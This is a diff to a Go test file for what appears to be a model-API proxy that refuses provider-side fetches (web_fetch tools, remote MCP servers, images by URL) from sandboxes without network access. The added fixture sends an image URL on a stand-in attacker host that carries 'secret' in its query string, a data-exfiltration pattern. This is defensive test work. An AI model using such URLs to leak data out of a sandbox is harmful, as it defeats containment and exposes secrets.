@@ -913,8 +913,8 @@ func TestAdmitConn(t *testing.T) {
 }
 
 // TestProviderToolsRefused: a sandbox with no egress right asks the
-// provider to fetch a page for it (a web_fetch tool, or a remote MCP
-// server in the request): the request is refused 400 in the API's error
+// provider to fetch a page for it (a web_fetch tool, a remote MCP server
+// in the request, an image by URL): the request is refused 400 in the API's error
 // format and never reaches the upstream, nor costs anything. A request
 // with the client's own tools passes, and a host that allows provider
 // tools (model.provider_tools) gets them forwarded.
@@ -927,7 +927,9 @@ func TestProviderToolsRefused(t *testing.T) {
 		`"tools":[{"name":"Bash","description":"run","input_schema":{"type":"object"}}]}`
 
 	w := newWorld(t, nil, modeltest.Turn{Text: "ok", Output: 2})
-	for _, body := range []string{fetch, mcp, `{"tools":[]} trailing`} {
+	image := `{"model":"m","max_tokens":64,"messages":[{"role":"user","content":[{"type":"image",` +
+		`"source":{"type":"url","url":"https://attacker.example/pixel.png?d=secret"}}]}]}`
+	for _, body := range []string{fetch, mcp, image, `{"tools":[]} trailing`} {
 		resp := w.post(t, "/v1/messages", body)
 		got := readAll(t, resp)
 		if resp.StatusCode != 400 || apiErrorType(t, got) != "invalid_request_error" {
